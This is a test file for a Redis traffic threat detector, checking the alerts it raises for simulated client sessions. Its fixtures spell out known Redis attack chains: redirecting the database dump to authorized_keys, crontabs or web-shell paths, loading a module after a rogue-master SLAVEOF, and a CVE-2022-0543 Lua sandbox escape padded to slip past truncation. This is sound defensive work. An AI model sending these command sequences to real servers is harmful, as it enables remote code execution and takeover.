import { describe, expect, it } from 'vitest';
import type { ProtocolEvent, RedisCommandEvent, RedisReplyEvent } from '#sidecar/events.ts';
import { serverCommands, wholeArgumentCommands } from '#sidecar/protocols/redis-commands.ts';
import { createRedisParser } from '#sidecar/protocols/redis-parser.ts';
import { redisAbuse } from '#sidecar/threats/redis-abuse.ts';
import { judges } from '#sidecar/threats/redis-abuse-judges.ts';
import type { FlowEndEvent } from '#sidecar/threats/threat.ts';
import { flow, runThreat } from './threat-factories.ts';

type Event = RedisCommandEvent | RedisReplyEvent | FlowEndEvent;

/**
 * One connection: each line a command, optionally with its answer (`OK`, `QUEUED`, or `-CODE` for an error), in
 * request-response order, then the flow's end. A line without an answer is one whose answer was not seen.
 */
const conversation = (lines: readonly (string | readonly [string, string])[], ts = 1_000): Event[] => [
  ...lines.flatMap((line, seq): Event[] => {
    const [text, answer] = typeof line === 'string' ? [line, undefined] : line;
    const [command = '', ...args] = text.split(' ');
    const sent: RedisCommandEvent = {
      kind: 'redis-command',
      ts,
      direction: 'to-server',
      command: command.toUpperCase(),
      args,
      seq,
    };
    if (answer === undefined) return [sent];
    const outcome = answer.startsWith('-') ? 'error' : answer === 'QUEUED' ? 'queued' : 'ok';
    const error = answer.startsWith('-') ? { error: answer.slice(1) } : {};
    return [
      sent,
      { kind: 'redis-reply', ts, direction: 'to-client', command: sent.command, seq, outcome, ...error },
    ];
  }),
  { kind: 'flow-end', ts: ts + 60_000 },
];
const run = (lines: readonly (string | readonly [string, string])[], config?: Record<string, unknown>) =>
  runThreat(
    redisAbuse,
    conversation(lines),
    config === undefined
      ? { flow: flow({ protocol: 'redis' }) }
      : { flow: flow({ protocol: 'redis' }), config },
  );
const stories = (lines: readonly (string | readonly [string, string])[], config?: Record<string, unknown>) =>
  run(lines, config).map((h) => [h.severity, h.confidence, h.evidence]);

// Written from the RESP specification (redis.io/docs/reference/protocol-spec): commands as arrays of bulk strings.
const resp = (...args: string[]): string =>
  `*${args.length}\r\n${args.map((a) => `$${Buffer.byteLength(a)}\r\n${a}\r\n`).join('')}`;

/** RESP segments through the real parser, then the detector over its events (and the flow's end). */
const throughParser = (segments: readonly (readonly ['to-server' | 'to-client', string])[]) => {
  const parser = createRedisParser();
  const events: (ProtocolEvent | FlowEndEvent)[] = segments.flatMap(([direction, text], i) =>
    parser.parse(new TextEncoder().encode(text), direction, 1_000 + i),
  );
  events.push({ kind: 'flow-end', ts: 9_000 });
  return runThreat(redisAbuse, events, { flow: flow({ protocol: 'redis' }) }).map((h) => [
    h.confidence,
    h.evidence,
  ]);
};

describe('redis-abuse', () => {
  it('follows the dump-as-file chain when its answers are not seen, as sent', () => {
    expect(
      stories(['CONFIG SET dir /root/.ssh', 'CONFIG SET dbfilename authorized_keys', 'SET x key', 'SAVE']),
    ).toEqual([
      ['critical', 0.8, 'a client pointed its dump at /root/.ssh/dump.rdb (CONFIG SET)'],
      ['critical', 0.8, 'a client pointed its dump at /root/.ssh/authorized_keys (CONFIG SET)'],
      ['critical', 0.9, 'a client wrote its dump to /root/.ssh/authorized_keys (SAVE)'],
    ]);
  });

  it('tells a file written through the dump, surest, when CONFIG SET and SAVE both succeeded', () => {
    expect(
      stories([
        ['CONFIG SET dir /root/.ssh', 'OK'],
        ['CONFIG SET dbfilename authorized_keys', 'OK'],
        ['SAVE', 'OK'],
      ]),
    ).toEqual([
      ['critical', 0.9, 'a client pointed its dump at /root/.ssh/dump.rdb (CONFIG SET, succeeded)'],
      ['critical', 0.9, 'a client pointed its dump at /root/.ssh/authorized_keys (CONFIG SET, succeeded)'],
      [
        'critical',
        1,
        'a client wrote /root/.ssh/authorized_keys through its dump (CONFIG SET and SAVE succeeded)',
      ],
    ]);
    expect(
      stories([['CONFIG SET dir /var/spool/cron/crontabs dbfilename root', 'OK'], 'BGSAVE']).at(-1),
    ).toEqual([
      'critical',
      0.95,
      'a client wrote its dump to /var/spool/cron/crontabs/root (CONFIG SET succeeded, then BGSAVE)',
    ]);
  });

  it('still reports an attempt the server refused, less surely, naming the refusal; a refused CONFIG SET moves nothing', () => {
    expect(
      stories([
        ['CONFIG SET dir /root/.ssh', '-NOPERM'],
        ['CONFIG SET dbfilename authorized_keys', '-NOPERM'],
        ['SAVE', 'OK'],
      ]),
    ).toEqual([
      [
        'critical',
        0.65,
        'a client tried to point its dump at /root/.ssh/dump.rdb (CONFIG SET, refused: NOPERM)',
      ],
      [
        'critical',
        0.65,
        'a client tried to point its dump at ./authorized_keys (CONFIG SET, refused: NOPERM)',
      ],
    ]);
    expect(stories([['CONFIG SET dir /var/www/html', '-DENIED']])).toEqual([
      [
        'critical',
        0.65,
        'a client tried to point its dump at /var/www/html/dump.rdb (CONFIG SET, refused: DENIED)',
      ],
    ]);
    expect(
      stories([
        ['CONFIG SET dir /var/www/html', 'OK'],
        ['BGSAVE', '-ERR'],
      ]).at(-1),
    ).toEqual([
      'critical',
      0.75,
      'a client tried to write its dump to /var/www/html/dump.rdb (BGSAVE, refused: ERR)',
    ]);
  });

  it('takes an error before any command (protected mode refusing the connection) as the answer to every command', () => {
    const [sent, end] = conversation(['CONFIG SET dir /var/www/html']);
    const denied: RedisReplyEvent = {
      kind: 'redis-reply',
      ts: 1_000,
      direction: 'to-client',
      command: '',
      seq: 0,
      outcome: 'error',
      error: 'DENIED',
    };
    const hits = runThreat(redisAbuse, [denied, sent as Event, end as Event], {
      flow: flow({ protocol: 'redis' }),
    });
    expect(hits.map((h) => [h.confidence, h.evidence])).toEqual([
      [0.65, 'a client tried to point its dump at /var/www/html/dump.rdb (CONFIG SET, refused: DENIED)'],
    ]);
  });

  it('takes a command queued in MULTI as one whose answer is not seen', () => {
    expect(
      stories([
        ['MULTI', 'OK'],
        ['CONFIG SET dir /root/.ssh', 'QUEUED'],
        ['EXEC', 'OK'],
      ]),
    ).toEqual([['critical', 0.8, 'a client pointed its dump at /root/.ssh/dump.rdb (CONFIG SET)']]);
  });

  it.each([
    ['/var/spool/cron/crontabs', 'root'],
    ['/var/www/html', 'shell.php'],
    ['/tmp', 'x.jsp'],
    ['/home/app', '.bashrc'],
  ])('calls a dump written to %s/%s code', (dir, file) => {
    const hits = run([`CONFIG SET dir ${dir}`, `CONFIG SET dbfilename ${file}`, 'BGSAVE']);
    expect(hits.at(-1)?.evidence).toBe(`a client wrote its dump to ${dir}/${file} (BGSAVE)`);
  });

  it('leaves an ordinary dump place and plain saves alone', () => {
    expect(run(['CONFIG SET dir /data', 'CONFIG SET dbfilename dump.rdb', 'SAVE', 'BGSAVE'])).toEqual([]);
    expect(run(['CONFIG SET dir /srv/redis', 'CONFIG SET dbfilename cache.rdb', 'BGSAVE'])).toEqual([]);
    expect(run(['SAVE', 'CONFIG GET dir', 'CONFIG SET maxmemory 100mb'])).toEqual([]);
    expect(
      run([
        ['SAVE', 'OK'],
        ['CONFIG SET dir /data', 'OK'],
        ['BGSAVE', 'OK'],
      ]),
    ).toEqual([]);
  });

  it('reports modules loaded, after a rogue master at that, and Lua reaching outside its sandbox', () => {
    expect(stories(['SLAVEOF 203.0.113.9 21000', 'MODULE LOAD ./exp.so'])).toEqual([
      ['medium', 0.6, 'a client made it a replica of 203.0.113.9:21000 (SLAVEOF)'],
      [
        'critical',
        0.9,
        'a client loaded the module ./exp.so, after replicating from 203.0.113.9:21000 (MODULE LOAD)',
      ],
    ]);
    expect(
      stories([
        ['SLAVEOF 203.0.113.9 21000', 'OK'],
        ['MODULE LOAD ./exp.so', 'OK'],
      ]),
    ).toEqual([
      ['medium', 0.7, 'a client made it a replica of 203.0.113.9:21000 (SLAVEOF, succeeded)'],
      [
        'critical',
        1,
        'a client loaded the module ./exp.so, after replicating from 203.0.113.9:21000 (MODULE LOAD, succeeded)',
      ],
    ]);
    expect(
      stories([
        ['REPLICAOF 203.0.113.9 21000', '-NOPERM'],
        ['MODULE LOAD ./exp.so', '-ERR'],
      ]),
    ).toEqual([
      [
        'medium',
        0.45,
        'a client tried to make it a replica of 203.0.113.9:21000 (REPLICAOF, refused: NOPERM)',
      ],
      ['critical', 0.75, 'a client tried to load the module ./exp.so (MODULE LOAD, refused: ERR)'],
    ]);
    expect(stories(['REPLICAOF NO ONE', 'MODULE LIST'])).toEqual([]);
    const sandboxEscape =
      'EVAL local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); 0';
    expect(stories([sandboxEscape])).toEqual([
      ['critical', 0.9, 'a client ran Lua that reaches outside its sandbox (EVAL, CVE-2022-0543)'],
    ]);
    expect(stories([[sandboxEscape, 'OK']])[0]?.[1]).toBe(1);
    expect(stories([[sandboxEscape, '-ERR']])).toEqual([
      [
        'critical',
        0.75,
        'a client tried Lua that reaches outside its sandbox (EVAL, refused: ERR, CVE-2022-0543)',
      ],
    ]);
    expect(run(['EVAL return redis.call("get", KEYS[1]) 1 k'])).toEqual([]);
  });

  it('reports protections turned off at high, and follows the policy', () => {
    expect(stories(['CONFIG SET protected-mode no'])).toEqual([
      ['high', 0.8, 'a client set protected-mode no'],
    ]);
    expect(stories([['CONFIG SET protected-mode no', 'OK']])).toEqual([
      ['high', 0.9, 'a client set protected-mode no (CONFIG SET, succeeded)'],
    ]);
    expect(stories([['CONFIG SET enable-module-command yes', '-ERR']])).toEqual([
      ['high', 0.65, 'a client tried to set enable-module-command yes (CONFIG SET, refused: ERR)'],
    ]);
    expect(run(['CONFIG SET protected-mode yes'])).toEqual([]);
    expect(run(['CONFIG SET protected-mode no'], { protections: 'off' })).toEqual([]);
    expect(run(['SLAVEOF 10.0.0.7 6379'], { replication: 'off' })).toEqual([]);
    expect(run(['MODULE LOAD /x.so'], { allowClients: ['10.0.0.5'] })).toEqual([]);
  });

  it('judges each command once its answer comes, and does not wait long for one that is not seen', () => {
    const [sent] = conversation(['MODULE LOAD /x.so']);
    const state = redisAbuse.initialState();
    const context = { flow: flow({ protocol: 'redis' }), config: redisAbuse.config.parse({}) };
    expect(redisAbuse.inspect(sent as Event, state, context)).toEqual([]);
    const later: RedisCommandEvent = {
      kind: 'redis-command',
      ts: 3_500,
      direction: 'to-server',
      command: 'GET',
      args: ['k'],
      seq: 1,
    };
    expect(redisAbuse.inspect(later, state, context).map((h) => h.confidence)).toEqual([0.9]);
    expect(redisAbuse.inspect({ kind: 'flow-end', ts: 9_000 }, state, context)).toEqual([]);
  });

  it('pairs pipelined RESP through the parser: answers in one segment, one refused, one command answered but not judged', () => {
    const commands = [
      resp('CONFIG', 'GET', 'dir'),
      resp('CONFIG', 'SET', 'dir', '/var/spool/cron'),
      resp('CONFIG', 'SET', 'dbfilename', 'root'),
      resp('BGSAVE'),
      resp('MODULE', 'LOAD', '/tmp/exp.so'),
    ].join('');
    const answers =
      '*2\r\n$3\r\ndir\r\n$5\r\n/data\r\n+OK\r\n+OK\r\n+Background saving started\r\n-ERR Error loading the extension.\r\n';
    expect(
      throughParser([
        ['to-server', commands],
        ['to-client', answers],
      ]),
    ).toEqual([
      [0.9, 'a client pointed its dump at /var/spool/cron/dump.rdb (CONFIG SET, succeeded)'],
      [0.9, 'a client pointed its dump at /var/spool/cron/root (CONFIG SET, succeeded)'],
      [1, 'a client wrote /var/spool/cron/root through its dump (CONFIG SET and BGSAVE succeeded)'],
      [0.75, 'a client tried to load the module /tmp/exp.so (MODULE LOAD, refused: ERR)'],
    ]);
  });

  it('reads a CONFIG SET setting past the 32nd argument, and a setting named after an Object property', () => {
    // The parser kept 32 arguments; `constructor` found Object's and threw, which hid the dump's place.
    const settings = Array.from({ length: 20 }, (_, i) => [`maxmemory-samples`, String(i)]).flat();
    expect(throughParser([['to-server', resp('CONFIG', 'SET', ...settings, 'dir', '/root/.ssh')]])).toEqual([
      [0.8, 'a client pointed its dump at /root/.ssh/dump.rdb (CONFIG SET)'],
    ]);
    expect(stories(['CONFIG SET constructor x __proto__ y dir /var/www/html'])).toEqual([
      ['critical', 0.8, 'a client pointed its dump at /var/www/html/dump.rdb (CONFIG SET)'],
    ]);
  });

  it('keeps one value of each setting it reads, however long the command', () => {
    const repeated = Array.from({ length: 2000 }, (_, i) => [
      'dir',
      `/data/${i}`,
      'protected-mode',
      'no',
    ]).flat();
    const read = judges.CONFIG?.read('CONFIG', ['SET', ...repeated, 'dir', '/root/.ssh']);
    expect(read?.settings).toEqual([
      ['dir', '/root/.ssh'],
      ['protected-mode', 'no'],
    ]);
  });

  it('reads the answers of every command it judges (the parser tells only those of server commands)', () => {
    expect(Object.keys(judges).filter((command) => !serverCommands.has(command))).toEqual([]);
  });
});

describe('redis-abuse: padding before the text it judges (ADR 36)', () => {
  const sandboxEscape = 'local f = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io")';
  const luaStory = [0.9, 'a client ran Lua that reaches outside its sandbox (EVAL, CVE-2022-0543)'];

  it('judges a Lua script whole: an sandboxEscape after 1200 octets of comments, whitespace or a long script', () => {
    // Each argument was cut at 1 KiB: the sandboxEscape after it was never read.
    const comment = `--[[${'x'.repeat(1200)}]]\n${sandboxEscape}\nreturn 1`;
    expect(throughParser([['to-server', resp('EVAL', comment, '0')]])).toEqual([luaStory]);
    expect(throughParser([['to-server', resp('EVAL', `${' '.repeat(1200)}${sandboxEscape}`, '0')]])).toEqual([
      luaStory,
    ]);
    const long = `${'-- a comment line of a long script\n'.repeat(1800)}${sandboxEscape}`;
    expect(long.length).toBeGreaterThan(60_000);
    expect(throughParser([['to-server', resp('EVAL', long, '0')]])).toEqual([luaStory]);
    expect(throughParser([['to-server', resp('SCRIPT', 'LOAD', comment)]])).toEqual([
      [0.9, 'a client ran Lua that reaches outside its sandbox (SCRIPT, CVE-2022-0543)'],
    ]);
  });

  it('judges an inline command whole: an sandboxEscape after its first 1 KiB', () => {
    expect(throughParser([['to-server', `EVAL "${' '.repeat(1200)}${sandboxEscape}" 0\r\n`]])).toEqual([
      luaStory,
    ]);
  });

  it('judges a script sent in segments, its sandboxEscape in the last one', () => {
    const script = `${'-- padding\n'.repeat(300)}${sandboxEscape}`;
    const command = resp('EVAL', script, '0');
    const segments = [command.slice(0, 1448), command.slice(1448, 2896), command.slice(2896)];
    expect(throughParser(segments.map((s) => ['to-server', s] as const))).toEqual([luaStory]);
  });

  it('judges a dump place padded past 1 KiB, and past 256 characters', () => {
    for (const padding of [300, 1200]) {
      const dir = `${'/.'.repeat(padding / 2)}/root/.ssh`;
      const [story] = throughParser([['to-server', resp('CONFIG', 'SET', 'dir', dir)]]);
      expect(story?.[1]).toMatch(/^a client pointed its dump at .*\/root\/\.ssh\/dump\.rdb \(CONFIG SET\)$/);
      expect(String(story?.[1]).length).toBeLessThan(200);
    }
  });

  it('leaves a long cache value alone, and keeps it cut at 1 KiB', () => {
    const value = `${'{"session":"'.padEnd(2000, 'a')}"} package.loadlib`;
    expect(throughParser([['to-server', resp('SET', 'session:1', value)]])).toEqual([]);
    const parser = createRedisParser();
    const [event] = parser.parse(new TextEncoder().encode(resp('SET', 'k', value)), 'to-server', 1);
    expect(event?.kind === 'redis-command' ? event.args[1]?.length : undefined).toBe(1024);
    expect(
      throughParser([['to-server', resp('EVAL', `${'-- a comment\n'.repeat(200)}return 1`, '0')]]),
    ).toEqual([]);
  });

  it('keeps whole the arguments of every command it judges (SAVE and BGSAVE take none)', () => {
    const withArguments = Object.keys(judges).filter((command) => command !== 'SAVE' && command !== 'BGSAVE');
    expect(withArguments.filter((command) => !wholeArgumentCommands.has(command))).toEqual([]);
  });

  it('judges a function library as it judges a script (FUNCTION LOAD runs Lua too)', () => {
    const library = `#!lua name=lib\n${'-- padding\n'.repeat(200)}redis.register_function('f', function() ${sandboxEscape} end)`;
    expect(throughParser([['to-server', resp('FUNCTION', 'LOAD', 'REPLACE', library)]])).toEqual([
      [0.9, 'a client ran Lua that reaches outside its sandbox (FUNCTION, CVE-2022-0543)'],
    ]);
    expect(
      throughParser([
        [
          'to-server',
          resp('FUNCTION', 'LOAD', "#!lua name=ok\nredis.register_function('f', function() return 1 end)"),
        ],
      ]),
    ).toEqual([]);
  });
});
